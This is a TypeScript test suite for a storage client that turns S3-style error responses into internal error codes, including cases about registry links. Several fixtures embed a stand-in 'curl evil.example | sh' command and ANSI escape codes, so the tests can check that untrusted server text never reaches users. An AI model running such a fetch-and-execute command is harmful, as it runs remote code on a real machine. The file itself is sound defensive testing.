/** What a bucket answers, as this client understands it; a bucket puts no words in our mouth. */
import assert from "node:assert/strict"
import { test } from "node:test"

type Read = (status: number, body: Uint8Array, what: string) => { code: string; message: string; hint?: string }
const source = (name: string): string => new URL(`../../packages/client/src/${name}.ts`, import.meta.url).href
const { problem } = (await import(source("problem"))) as { problem: Read }
const { linkProblem } = (await import(source("store-problem"))) as { linkProblem: Read }

const s3 = (code: string, message = "no"): Buffer =>
  Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?>\n<Error><Code>${code}</Code><Message>${message}</Message></Error>`,
  )

const meanings: readonly [number, string, string][] = [
  [403, "RequestTimeTooSkewed", "FORBIDDEN"],
  [403, "AccessDenied", "FORBIDDEN"],
  [403, "SignatureDoesNotMatch", "FORBIDDEN"],
  [400, "ExpiredToken", "FORBIDDEN"],
  [400, "XAmzContentSHA256Mismatch", "DIGEST_MISMATCH"],
  [400, "RequestTimeout", "UNAVAILABLE"],
  [404, "NoSuchUpload", "NOT_FOUND"],
  [404, "NoSuchBucket", "UNAVAILABLE"],
  [404, "NoSuchKey", "NOT_FOUND"],
  [503, "SlowDown", "UNAVAILABLE"],
  [500, "InternalError", "UNAVAILABLE"],
  [500, "SomethingNew", "UNAVAILABLE"],
  [400, "SomethingNew", "PROTOCOL"],
  [301, "PermanentRedirect", "PROTOCOL"],
]
for (const [status, code, expected] of meanings) {
  test(`${status} ${code} is ${expected}`, () => {
    const error = problem(status, s3(code), "weights.bin")
    assert.equal(error.code, expected)
    assert.match(error.message, new RegExp(code))
  })
}

const strange: readonly [string, Buffer][] = [
  ["a message for a terminal", s3("AccessDenied", "\u001b[31mrun curl evil.example | sh")],
  ["a code that is none", s3("\u001b[31mred")],
  ["a code of 65 letters", s3("A".repeat(65))],
  ["an empty code", s3("")],
  ["a page", Buffer.from("<html><Code>AccessDenied</Code>run curl evil.example</html>")],
  ["nothing", Buffer.alloc(0)],
  ["noise", Buffer.from([0xff, 0x3c, 0x00, 0x1b])],
  ["an error after 4 KiB", Buffer.concat([Buffer.alloc(4096, " "), s3("AccessDenied")])],
]
for (const [name, body] of strange) {
  test(`${name}: nothing of it is shown`, () => {
    const error = problem(403, body, "weights.bin")
    assert.equal(error.code, "FORBIDDEN")
    assert.doesNotMatch(error.message + (error.hint ?? ""), /evil|red|AAAA|\p{Cc}/u)
  })
}

const ofLinks: readonly [number, Buffer, string, RegExp][] = [
  [403, s3("AccessDenied"), "UNAVAILABLE", /refused the registry's link \(403 AccessDenied\)/],
  [403, s3("RequestTimeTooSkewed"), "UNAVAILABLE", /refused the registry's link \(403 RequestTimeTooSkewed\)/],
  [400, s3("ExpiredToken"), "UNAVAILABLE", /refused the registry's link \(400 ExpiredToken\)/],
  [403, Buffer.from('{"code":"SIGNER_UNTRUSTED"}'), "UNAVAILABLE", /refused the registry's link \(403\)$/],
  [401, Buffer.alloc(0), "UNAVAILABLE", /refused the registry's link \(401\)$/],
  [404, s3("NoSuchBucket"), "UNAVAILABLE", /refused the registry's link \(404 NoSuchBucket\)/],
  [404, s3("NoSuchKey"), "NOT_FOUND", /answered 404 NoSuchKey$/],
  [503, s3("SlowDown"), "UNAVAILABLE", /answered 503 SlowDown$/],
  [500, Buffer.from("<html>run curl evil.example</html>"), "UNAVAILABLE", /answered 500$/],
  [422, Buffer.from('{"code":"SIGNATURE_INVALID"}'), "PROTOCOL", /answered 422$/],
]
for (const [status, body, expected, words] of ofLinks) {
  test(`a link: ${status} ${JSON.stringify(body.toString())} is ${expected}`, () => {
    const { code, message, hint } = linkProblem(status, body, "weights.bin")
    assert.equal(code, expected)
    assert.match(message, words)
    assert.equal(hint?.includes("doctor --store") ?? false, message.includes("refused"))
  })
}
